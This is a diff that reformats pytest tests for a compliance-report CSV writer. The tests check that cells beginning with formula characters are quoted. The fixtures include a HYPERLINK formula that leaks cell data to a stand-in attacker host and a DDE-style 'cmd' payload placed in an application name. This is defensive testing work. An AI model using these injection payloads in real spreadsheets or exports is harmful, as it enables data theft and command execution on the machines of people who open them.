@@ -14,11 +14,22 @@ FORMULA = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
 
 
-@pytest.mark.parametrize("value, written", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (HYPERLINK, "'" + HYPERLINK),
-    ("acme/api", "acme/api"), ("a=b", "a=b"), ("", ""), ("'=1", "'=1"),
-])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        (HYPERLINK, "'" + HYPERLINK),
+        ("acme/api", "acme/api"),
+        ("a=b", "a=b"),
+        ("", ""),
+        ("'=1", "'=1"),
+    ],
+)
 def test_a_cell_that_would_start_a_formula_is_quoted(value, written):
     assert spreadsheet_safe(value) == written
 
@@ -26,11 +37,14 @@ def test_a_cell_that_would_start_a_formula_is_quoted(value, written):
 def test_compliance_csv_neutralises_formulas_in_every_cell(lake, small_catalog):
     api = lake.repository("api")
     lake.posture(api, "BB-003", "pass", "force pushes prevented")
-    lake.config("applications.yaml", """
+    lake.config(
+        "applications.yaml",
+        """
         applications:
           - name: "@SUM(1+1)*cmd|' /C calc'!A0"
             repositories: [{workspace: acme, repository: api}]
-    """)
+    """,
+    )
     lake.build(settings=lake.small_settings())
 
     rows = list(csv.DictReader(io.StringIO(write_reports(lake.home)["csv"].read_text())))
@@ -46,5 +60,8 @@ def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
     text = csv_text(["application", "evidence"], [["api", "branch main\r=1+1"], ["web", "plain"]])
 
     assert list(csv.reader(io.StringIO(text, newline=""))) == [
-        ["application", "evidence"], ["api", "branch main\r=1+1"], ["web", "plain"]]
+        ["application", "evidence"],
+        ["api", "branch main\r=1+1"],
+        ["web", "plain"],
+    ]
     assert text.endswith('"api","branch main\r=1+1"\nweb,plain\n')
